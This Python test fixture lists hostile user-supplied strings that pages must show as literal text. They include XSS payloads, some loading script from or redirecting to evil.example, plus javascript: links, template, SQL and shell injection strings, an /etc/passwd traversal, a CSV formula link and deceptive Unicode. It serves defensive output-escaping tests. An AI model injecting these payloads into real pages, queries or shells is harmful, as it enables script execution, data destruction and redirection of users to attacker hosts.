"""Names and texts of people who mean no good: for names, clues, announcements, reasons and `say`.

Each is to be shown as text wherever it turns up, never to be run, and never to hide, reorder or
paint over what stands beside it. Pages that show texts try all of them.
"""

MARKUP = {
    "script": "<script>document.title='owned'</script>",
    "script from elsewhere": "<script src=//evil.example/x.js></script>",
    "image handler": "<img src=x onerror=document.title='owned'>",
    "image handler, quoted": "\"><img src='x' onerror='document.title=`owned`'>",
    "svg": "<svg/onload=document.title='owned'>",
    "svg animation": "<svg><animate onbegin=document.title='owned' attributeName=x dur=1s>",
    "svg script": "<svg><script href=data:,document.title='owned' /></svg>",
    "mathml": "<math><maction actiontype=statusline xlink:href=javascript:void(0)>x</maction></math>",
    "details": "<details open ontoggle=document.title='owned'>",
    "input": "<input autofocus onfocus=document.title='owned'>",
    "frame": "<iframe srcdoc='<script>parent.document.title=1</script>'></iframe>",
    "style": "<style>body{display:none}</style>",
    "base": "<base href=//evil.example/>",
    "meta": "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "form": "<form action=//evil.example><button>Go on</button></form>",
    "open comment": "<!-- the rest is gone",
    "closing tags": "</title></textarea></script></style><script>document.title='owned'</script>",
    "attribute, double": '" onmouseover="document.title=1" x="',
    "attribute, single": "' onmouseover='document.title=1' x='",
    "attribute, backtick": "` onmouseover=document.title=1 x=`",
    "entities": "&lt;script&gt;document.title=&#39;owned&#39;&lt;/script&gt;",
    "broken tag": "<img src=x onerror=document.title=1//",
    "nested tags": "<scr<script>ipt>document.title=1</scr</script>ipt>",
    "capitals": "<ScRiPt>document.title=1</sCrIpT>",
    "template tag": "<template><script>document.title=1</script></template>",
    "noscript": '<noscript><p title="</noscript><img src=x onerror=document.title=1>">',
}
"""HTML that would run, load, send or hide something if it were taken for HTML."""

LINKS = {
    "javascript": "javascript:document.title='owned'",
    "javascript, in disguise": "jAvAsCrIpT:document.title=1",
    "javascript, encoded": "javascript&colon;document.title=1",
    "markdown link": "[your prize](javascript:document.title='owned')",
    "markdown image": "![x](https://evil.example/pixel.gif)",
    "markdown html": "[a](<javascript:alert(1)>)",
    "data": "data:text/html,<script>document.title=1</script>",
    "protocol-relative": "//evil.example/x",
    "vbscript": "vbscript:msgbox(1)",
}
"""Links that run something or lead away."""

TEMPLATES = {
    "double braces": "{{7*7}}",
    "constructor": "{{constructor.constructor('document.title=1')()}}",
    "dollar braces": "${document.title=1}",
    "python format": "{0.__class__.__mro__}",
    "percent": "%s%s%n%x",
    "server tags": "<%= 7*7 %>",
    "sql": "'; DROP TABLE events; --",
    "shell": "$(touch owned); `touch owned`",
    "csv formula": '=HYPERLINK("//evil.example","click")',
    "path": "../../../../etc/passwd",
}
"""What a careless template, query, shell or spreadsheet would work out."""

INVISIBLE = {
    "right-to-left override": "Ada\u202egnp.exe",
    "unclosed embedding": "Ada\u202b\u202b\u202b",
    "isolates": "\u2066Ada\u2069\u2067Bob",
    "zero width": "A\u200bd\u200ca\u200d\u2060\ufeff",
    "soft hyphens": "A\u00add\u00ada",
    "null": "Ada\x00Bob",
    "escape codes": "\x1b[2J\x1b]0;owned\x07Ada",
    "carriage return": "Ada\rBob",
    "backspaces": "Ada\x08\x08\x08Bob",
    "c1 controls": "Ada\x9b31mBob",
    "tags": "Ada\U000e0041\U000e0042",
    "interlinear": "Ada\ufff9x\ufffay\ufffb",
    "lone surrogate": "Ada\ud83d",
    "line separator": "Ada\u2028Bob\u2029Cy",
    "vertical tab": "Ada\x0bBob\x0cCy",
}
"""Characters that are not seen, and change how others are."""

BLANK = {
    "spaces": " \t \u00a0\u2003\u3000 ",
    "zero width only": "\u200b\u200c\u200d",
    "hangul fillers": "\u115f\u1160\u3164\uffa0",
    "braille blank": "\u2800",
    "variation selectors": "\ufe0f\ufe0e",
    "musical blank": "\U0001d159",
    "marks without a letter": "\u0301\u0302",
    "joiner": "\u034f",
    "mongolian separator": "\u180e",
}
"""Names that show as nothing."""

FLOODS = {
    "marks above": "A" + "\u0301\u0302\u0303\u0304" * 50,
    "marks around": "A" + "\u20dd\u20e0" * 40,
    "marks everywhere": "".join(char + "\u0336\u0353\u0489" * 6 for char in "Ada"),
    "family": "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466" * 60,
    "flags": "\U0001f1f8\U0001f1ea" * 200,
    "ligature": "\ufdfd" * 200,
    "one long word": "W" * 4_000,
    "newlines": "\n" * 3_000,
}
"""Much where little is expected."""

RIGHT_TO_LEFT = {"hebrew": "עדה", "arabic": "عادة", "mixed": "Ada עדה 123"}
"""Honest names that are written from the right; pages isolate them."""

ALL = {**MARKUP, **LINKS, **TEMPLATES, **INVISIBLE, **BLANK, **FLOODS, **RIGHT_TO_LEFT}
"""All of them, by what they try."""
